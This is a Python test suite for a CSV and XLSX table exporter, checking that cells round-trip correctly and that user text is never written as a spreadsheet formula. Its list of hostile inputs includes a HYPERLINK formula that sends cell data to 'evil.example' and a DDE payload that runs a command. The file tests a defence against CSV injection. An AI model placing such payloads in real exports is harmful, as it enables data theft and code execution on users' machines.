"""A table comes back from CSV and XLSX as it was, and nothing in it is ever computed."""

from __future__ import annotations

import csv
from datetime import date
from decimal import Decimal
from io import BytesIO, StringIO
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.cell import Cell as OfSheet
from openpyxl.worksheet.worksheet import Worksheet

from handlers.papers.table import Cell, Column, Table, as_csv, as_xlsx, harmless

HOSTILE = (
    "=1+1",
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "＝1+1",
    "﹢1",
    "＠SUM(A1)",
    "−1",
    '=HYPERLINK("http://evil.example?"&A1,"here")',
    "=cmd|' /C calc'!A0",
    '";=1+1',
    "=1+1\r\n=2",
    "#REF!",
)
FORMULA = ("=", "+", "-", "@", "\t", "\r")
EXACT = settings(max_examples=60, deadline=None)


def table(*texts: str, comma: bool = False) -> Table:
    rows: tuple[tuple[Cell, ...], ...] = tuple((text, date(2027, 3, 4), Decimal("2.5"), None) for text in texts)
    return Table("Plan", (Column("What", 40), Column("By", 12), Column("Days", 8), Column("Sign", 9)), rows, comma)


def from_csv(made: bytes, delimiter: str = ",") -> list[list[str]]:
    assert made.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(StringIO(made.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def sheet_of(made: bytes) -> Worksheet:
    found = load_workbook(BytesIO(made)).active
    assert isinstance(found, Worksheet)
    return found


def from_xlsx(made: bytes) -> list[list[Any]]:
    return [list(row) for row in sheet_of(made).iter_rows(values_only=True)]


def test_csv_holds_words_days_and_numbers() -> None:
    made = from_csv(as_csv(table('Say "oui", twice\nor not')))
    assert made == [["What", "By", "Days", "Sign"], ['Say "oui", twice\nor not', "2027-03-04", "2.5", ""]]


def test_where_numbers_have_a_comma_a_semicolon_parts_the_cells() -> None:
    made = from_csv(as_csv(table("L’été; enfin", comma=True)), delimiter=";")
    assert made[1] == ["L’été; enfin", "2027-03-04", "2,5", ""]


def test_a_workbook_has_days_as_days_and_numbers_as_numbers() -> None:
    sheet = sheet_of(as_xlsx(table("Écouter")))
    assert [cell.value for cell in sheet[1]] == ["What", "By", "Days", "Sign"]
    what, day, days, sign = sheet[2]
    assert (what.value, days.value, sign.value) == ("Écouter", 2.5, None)
    assert isinstance(day, OfSheet)
    assert (day.is_date, day.number_format, days.data_type) == (True, "yyyy-mm-dd", "n")


def test_a_workbook_keeps_its_headings_in_sight() -> None:
    sheet = sheet_of(as_xlsx(table("Écouter", "Lire")))
    assert (sheet.title, sheet.freeze_panes, sheet.auto_filter.ref) == ("Plan", "A2", "A1:D3")
    assert sheet["A1"].font.bold
    assert not sheet["A2"].font.bold
    assert sheet.column_dimensions["A"].width == 40


@pytest.mark.parametrize("title", ["Equipe: a/b\\c?*[d]'", "x" * 90, "=1"])
def test_any_title_names_a_sheet(title: str) -> None:
    assert 0 < len(sheet_of(as_xlsx(Table(title, (Column("What", 9),), ()))).title) <= 31


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_that_somebody_wrote_is_a_formula(text: str) -> None:
    for comma in (False, True):
        written = from_csv(as_csv(table(text, comma=comma)), ";" if comma else ",")
        assert len(written) == 2
        assert not written[1][0].lstrip().startswith(FORMULA)
    cell = sheet_of(as_xlsx(table(text)))["A2"]
    assert cell.data_type == "s"
    assert not str(cell.value).lstrip().startswith(FORMULA)


@pytest.mark.parametrize("text", ["Écouter – deux fois", "1 + 1 = 2", "(a) @ home", "’=1", "12"])
def test_what_is_no_formula_stays_as_it_was_written(text: str) -> None:
    assert harmless(text) == text


@EXACT
@given(st.lists(st.text(max_size=60) | st.sampled_from(HOSTILE), max_size=8), st.booleans())
def test_any_words_come_back_as_harmless_words(texts: list[str], comma: bool) -> None:
    made = table(*texts, comma=comma)
    expected = [harmless(text) for text in texts]
    assert [row[0] for row in from_csv(as_csv(made), ";" if comma else ",")[1:]] == expected
    assert [row[0] or "" for row in from_xlsx(as_xlsx(made))[1:]] == expected


@EXACT
@given(st.text(alphabet=st.characters() | st.sampled_from("=+-@\t\r\n "), max_size=30))
def test_nothing_harmless_begins_like_a_formula(text: str) -> None:
    assert not harmless(text).lstrip().startswith(FORMULA)


def test_five_thousand_rows_are_all_there() -> None:
    made = table(*(f"Action {number}" for number in range(5000)))
    assert len(from_csv(as_csv(made))) == 5001
    assert sheet_of(as_xlsx(made)).max_row == 5001
